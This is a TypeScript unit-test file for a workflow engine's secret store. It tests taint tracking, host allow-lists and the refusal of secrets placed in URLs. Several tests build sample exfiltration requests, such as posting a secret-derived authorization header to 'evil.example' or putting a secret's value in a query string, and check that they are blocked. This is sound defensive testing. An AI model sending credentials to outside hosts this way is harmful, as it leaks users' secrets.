// Secrets: the store, taint propagation, the host rule for effects, and the node-local route
// with the shared streams on the embedded file log (test/auth/secrets-kafka.int.test.ts: Kafka).
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFileLog } from '../../streams/file/index.ts';
import {
  createSecretStore,
  createTaintTracker,
  lazyLocalEngine,
  resolveSecrets,
  routeTainted,
} from '../../processors/auth/index.ts';
import { createNode } from '../../processors/engine/node.ts';
import { createCoreRunner } from '../harness/core-runner.ts';
import { parseWorkflow } from '../../schemas/model.ts';
import type { IpldValue } from '../../schemas/ipld.ts';
import { describeSecretsStayLocal } from './secrets.suite.ts';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ipvm-secrets-unit-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const M = 'ipfs://bafkreigc4g7ygs4m7ojs3dkqt64rjmyrdpglyo36ltd6462pf4pytn4weu';
const task = (op: string, rsc: string, args: IpldValue[]): IpldValue => ({
  run: { rsc, op, input: { func: 'f', args }, nnc: '' },
  cause: null,
  meta: {},
  prf: [],
});

const effect = (op: string, rsc: IpldValue, input: IpldValue): IpldValue => ({
  run: { rsc, op, input, nnc: '' },
  cause: null,
  meta: {},
  prf: [],
});
const asTask = (run: Record<string, IpldValue>): IpldValue => ({
  run,
  cause: null,
  meta: {},
  prf: [],
});

describe('secrets', () => {
  it('names a damaged store without repeating its contents', async () => {
    const damaged = await mkdtemp(join(tmpdir(), 'ipvm-secrets-bad-'));
    try {
      await writeFile(join(damaged, 'secrets.json'), '{"token": {"value": "hunter2"');
      const store = createSecretStore({ dataDir: damaged });
      let error: unknown;
      try {
        store.names();
      } catch (err) {
        error = err;
      }
      expect(error).toBeInstanceOf(Error);
      expect((error as Error).name).toBe('SecretError');
      expect((error as Error).message).toContain(join(damaged, 'secrets.json'));
      expect(JSON.stringify(error, Object.getOwnPropertyNames(error))).not.toContain('hunter2');
    } finally {
      await rm(damaged, { recursive: true, force: true });
    }
  });

  it('taints the task naming a secret and everything downstream, across workflows too', () => {
    const store = createSecretStore({ dataDir: dir });
    store.set('token', 'abc');
    const taint = createTaintTracker(store);
    const a = task('wasm/run', M, [{ secret: 'token' }]);
    const ia = parseWorkflow({ tasks: [a] }).tasks[0]!.instruction;
    const b = task('wasm/run', M, [{ 'await/ok': ia }]);
    const c = task('wasm/run', M, [1]);
    const wf = parseWorkflow({ tasks: [a, b, c] });
    expect([...taint.analyse(wf).keys()].sort()).toEqual([0, 1]);
    // A later workflow awaiting a tainted instruction is tainted by it.
    const ib = wf.tasks[1]!.instruction;
    const later = parseWorkflow({ tasks: [task('wasm/run', M, [{ 'await/ok': ib }])] });
    expect(taint.analyse(later).get(0)).toEqual(new Set(['token']));
    expect(
      resolveSecrets([{ secret: 'token' }, { x: { secret: 'token' } }], (n) => store.get(n).value),
    ).toEqual(['abc', { x: 'abc' }]);
  });

  it('refuses a secret the node does not hold, and a tainted value sent to a host not allowed', () => {
    const store = createSecretStore({ dataDir: dir });
    store.set('key', 'v', { allowHosts: ['api.example.com'] });
    const taint = createTaintTracker(store);
    expect(() =>
      taint.analyse(parseWorkflow({ tasks: [task('wasm/run', M, [{ secret: 'nope' }])] })),
    ).toThrow(/task 0 \(instruction bafyrmi.*\): no secret named "nope"/);
    const post = (host: string) =>
      effect('http/post', `https://${host}/x`, { headers: { authorization: { secret: 'key' } } });
    expect(() => taint.analyse(parseWorkflow({ tasks: [post('evil.example')] }))).toThrow(
      /http\/post to evil.example would send a value derived from secret "key"/,
    );
    expect(taint.analyse(parseWorkflow({ tasks: [post('api.example.com')] })).size).toBe(1);
  });

  it('refuses a secret in an effect URL, or anywhere but a header value or the body (located)', () => {
    const store = createSecretStore({ dataDir: dir });
    store.set('key', 'k3y-value', { allowHosts: ['api.example.com'] });
    const taint = createTaintTracker(store);
    const url = 'https://api.example.com/x';
    // The URL itself a secret: the schema refuses it, located at the field.
    expect(() =>
      parseWorkflow({
        tasks: [effect('http/get', M, {}), effect('http/get', { secret: 'key' }, {})],
      }),
    ).toThrow(/^tasks\[1\]\.run\.rsc: expected a string, got map/);
    // A secret in a field the request is built from in the clear (or not at all).
    const refused: Array<[IpldValue, string]> = [
      [{ url: { secret: 'key' } }, 'input.url'],
      [{ query: { q: { secret: 'key' } } }, 'input.query'],
      [{ headers: { authorization: { value: { secret: 'key' } } } }, 'input.headers.authorization'],
      [{ secret: 'key' }, 'input'],
    ];
    for (const [input, field] of refused) {
      const wf = parseWorkflow({
        tasks: [effect('http/get', M, {}), effect('http/get', url, input)],
      });
      expect(() => taint.analyse(wf), field).toThrow(
        new RegExp(
          `^task 1 \\(instruction ${wf.tasks[1]!.instruction.toString()}\\): ${field.replace(/\./g, '\\.')} names secret "key"; .*never in its URL`,
        ),
      );
    }
    // A tainted task whose URL holds the secret's value (a follow-up a tainted result asks for).
    const a = task('wasm/run', M, [{ secret: 'key' }]);
    const ia = parseWorkflow({ tasks: [a] }).tasks[0]!.instruction.toString();
    taint.analyse(parseWorkflow({ tasks: [a] }));
    const leak = { rsc: `${url}?k=k3y-value`, op: 'http/get', input: {} };
    const screened = taint.screenFollowUp({ tasks: [{ ...leak, nnc: '' }].map(asTask) }, ia);
    expect(screened).toEqual({
      refused: expect.stringMatching(
        /^task 0 .*: run\.rsc holds the value of secret "key"; a secret never goes in a URL$/,
      ),
    });
    // …and the same follow-up without it goes.
    const ok = taint.screenFollowUp({ tasks: [asTask({ ...leak, rsc: url, nnc: '' })] }, ia);
    expect(ok).toMatchObject({ tainted: expect.any(Map) });
    // Headers and body are where a secret goes.
    const fine = effect('http/post', url, {
      headers: { authorization: { secret: 'key' } },
      body: { nested: [{ secret: 'key' }] },
    });
    expect(taint.analyse(parseWorkflow({ tasks: [fine] })).get(0)).toEqual(new Set(['key']));
  });
});

describe('the node-local engine', () => {
  it('is closed with the router even when a tainted submission is still opening it', async () => {
    const d = await mkdtemp(join(tmpdir(), 'ipvm-secrets-close-'));
    const runner = await createCoreRunner();
    const store = createSecretStore({ dataDir: d });
    store.set('pin', '1');
    const sharedLog = createFileLog({ dir: join(d, 'shared') });
    const localLog = createFileLog({ dir: join(d, 'local') });
    let closed = 0;
    const engine = lazyLocalEngine(async () => {
      const n = await createNode({ log: localLog, runner, topology: { namespace: 'local' } });
      const close = n.close.bind(n);
      n.close = () => {
        closed++;
        return close();
      };
      return n;
    });
    const shared = await createNode({ log: sharedLog, runner, topology: { namespace: 's' } });
    const node = await routeTainted({ shared, local: engine, taint: createTaintTracker(store) });
    const wf = parseWorkflow({ tasks: [task('wasm/run', runner.rsc, [{ secret: 'pin' }])] });
    const submitted = node.submit(wf).catch(() => undefined); // opens the local engine
    await node.close(); // before the opening is done
    await submitted;
    expect(engine.opened()).toBeDefined();
    expect(closed).toBe(1);
    await localLog.close();
    await sharedLog.close();
    await rm(d, { recursive: true, force: true });
  });
});

describe('secrets on the embedded file log', () => {
  let logDir: string;
  beforeAll(async () => {
    logDir = await mkdtemp(join(tmpdir(), 'ipvm-secrets-shared-'));
  });
  afterAll(async () => {
    await rm(logDir, { recursive: true, force: true });
  });
  describeSecretsStayLocal(() => Promise.resolve(createFileLog({ dir: logDir })), 'shared');
});
